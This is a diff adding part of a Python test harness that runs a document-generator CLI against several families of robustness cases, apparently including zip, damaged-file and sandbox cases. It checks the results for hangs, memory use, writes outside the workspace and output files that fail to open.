+def all_cases() -> list[Case]:
+    return [
+        *zip_method_cases(), *zip_size_cases(), *damaged_cases(), *huge_cases(), *file_type_cases(),
+        *sandbox_cases(), *cell_cases(), *active_cases(),
+    ]  # fmt: skip
+
+
+# --- the run --------------------------------------------------------------------------------------
+
+
+@dataclass
+class Outcome:
+    case: Case
+    exit_code: int | None  # None: killed at TIME_BOUND
+    seconds: float
+    peak_bytes: int
+    output: str
+    problems: list[str] = field(default_factory=list)
+
+
+_CJK = re.compile(r"[\u4e00-\u9fff]")
+
+
+def prepare_master(root: Path) -> Path:
+    """The example workspace with a form issued (so that its key exists), copied for each case."""
+    master = root / "master"
+    if not master.exists():
+        subprocess.run(
+            [sys.executable, "-m", "generator.cli", "init", str(master)], cwd=REPO, check=True, capture_output=True
+        )
+        subprocess.run(
+            [sys.executable, "-m", "generator.cli", "-C", str(master), "forms", "--period", FORM_PERIOD, "--unit", FORM_UNIT],
+            cwd=REPO, check=True, capture_output=True,
+        )  # fmt: skip
+    return master
+
+
+def _tree(folder: Path) -> set[str]:
+    return {str(p.relative_to(folder)) for p in folder.rglob("*")} if folder.exists() else set()
+
+
+def opens(path: Path) -> str | None:
+    """Why a written .docx/.xlsx would not open (None: it opens): a whole zip whose XML parts parse."""
+    try:
+        with zipfile.ZipFile(path) as zf:
+            if zf.testzip() is not None:
+                return "CRC"
+            for name in zf.namelist():
+                if name.endswith((".xml", ".rels")):
+                    etree.fromstring(zf.read(name), etree.XMLParser(resolve_entities=False, no_network=True))
+            main = "word/document.xml" if path.suffix == ".docx" else "xl/workbook.xml"
+            needed = [main, "[Content_Types].xml", "_rels/.rels"]
+            if path.suffix == ".docx":
+                needed += ["word/styles.xml", "word/settings.xml"]
+            missing = [n for n in needed if n not in zf.namelist()]
+            return f"missing {missing}" if missing else None
+    except (zipfile.BadZipFile, etree.XMLSyntaxError, OSError, KeyError, ValueError) as exc:
+        return f"{type(exc).__name__}: {exc}"
+
+
+def run_case(case: Case, root: Path) -> Outcome:
+    """One case in a fresh workspace under `root`, with everything it promises checked."""
+    master = prepare_master(root)
+    here = root / "cases" / re.sub(r"[^\w.-]+", "_", case.id)
+    if here.exists():
+        shutil.rmtree(here)
+    ws, scratch, tmp = here / "ws", here / "scratch", here / "tmp"
+    shutil.copytree(master, ws, symlinks=True)
+    scratch.mkdir()
+    tmp.mkdir()
+    args = case.setup(ws, scratch)
+    before_here = _outside(here)
+    env = dict(os.environ, TMPDIR=str(tmp), TEMP=str(tmp), TMP=str(tmp), LANG="C.UTF-8")
+    started = time.monotonic()
+    proc = subprocess.Popen(
+        [sys.executable, "-c", MEASURE, sys.executable, "-m", "generator.cli", "-C", str(ws), *args],
+        cwd=scratch, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, start_new_session=True,
+    )  # fmt: skip
+    try:
+        out, err = proc.communicate(timeout=TIME_BOUND)
+        exit_code: int | None = proc.returncode
+    except subprocess.TimeoutExpired:
+        os.killpg(proc.pid, 9)
+        out, err = proc.communicate()
+        exit_code = None
+    _kill_group(proc.pid)  # anything it left behind (the orphan test is elsewhere)
+    seconds = time.monotonic() - started
+    output = out.decode("utf-8", "replace")
+    peak = int(err.rsplit(b"\n", 1)[-1]) if exit_code is not None and err.rsplit(b"\n", 1)[-1].isdigit() else 0
+    outcome = Outcome(case, exit_code, seconds, peak, output)
+    _judge(outcome, ws, here, tmp, before_here)
+    (here / "result.txt").write_text(f"exit {exit_code}\n{output}\n{outcome.problems}\n", encoding="utf-8")
+    return outcome
+
+
+# Runs the command and prints its peak RSS (with its children's) last on stderr. A small process
+# of its own: the peak of a child counts the memory of the process it was forked from.
+MEASURE = """
+import resource, subprocess, sys
+code = subprocess.call(sys.argv[1:], stderr=subprocess.STDOUT)
+sys.stderr.write("\\n%d" % (resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss * 1024))
+sys.exit(code)
+"""
+
+
+def _kill_group(pid: int) -> None:
+    with contextlib.suppress(ProcessLookupError, PermissionError):
+        os.killpg(pid, 9)
+
+
+def _outside(here: Path) -> set[str]:
+    """What there is in a case's folder outside its workspace and its temporary folder."""
+    return {p for p in _tree(here) if not p.startswith(("ws/", "tmp/")) and p not in ("ws", "tmp")}
+
+
+def _judge(o: Outcome, ws: Path, here: Path, tmp: Path, before_here: set[str]) -> None:
+    left = [p.name for p in tmp.iterdir()] if tmp.exists() else []
+    if left:
+        o.problems.append(f"left in the temporary folder: {left[:3]}")
+    if o.exit_code is None:
+        o.problems.append(f"hang: killed after {TIME_BOUND:g} s")
+    elif o.exit_code not in (0, 1, 2):
+        o.problems.append(f"exit {o.exit_code}")
+    if o.exit_code not in (0, None) and not _CJK.search(o.output):
+        o.problems.append("no Chinese message")
+    if "Traceback" in o.output or "程序内部出错" in o.output:
+        o.problems.append("internal error")
+    if o.peak_bytes > MEMORY_BOUND:
+        o.problems.append(f"peak memory {o.peak_bytes / 2**20:.0f} MB")
+    outside = _outside(here) - before_here
+    if outside:
+        o.problems.append(f"written outside the workspace: {sorted(outside)[:3]}")
+    escaped = [p for p in here.parent.parent.iterdir() if p.name not in ("master", "cases")]
+    if escaped:
+        o.problems.append(f"written beside the workspaces: {escaped[:3]}")
+    for path in (ws / "output").rglob("*"):
+        if path.suffix in (".docx", ".xlsx") and path.is_file() and ".gongwen-staging" not in path.parts:
+            why = opens(path)
+            if why:
+                o.problems.append(f"unopenable {path.name}: {why}")
+
+
+def sample(cases: list[Case], per_family: int) -> list[Case]:
+    """`per_family` cases of each family, spread over it: the run every CI run makes."""
+    by_family: dict[str, list[Case]] = {}
+    for case in cases:
+        by_family.setdefault(case.family, []).append(case)
+    return [
+        family[i * len(family) // per_family]
+        for family in by_family.values()
+        for i in range(min(per_family, len(family)))
+    ]
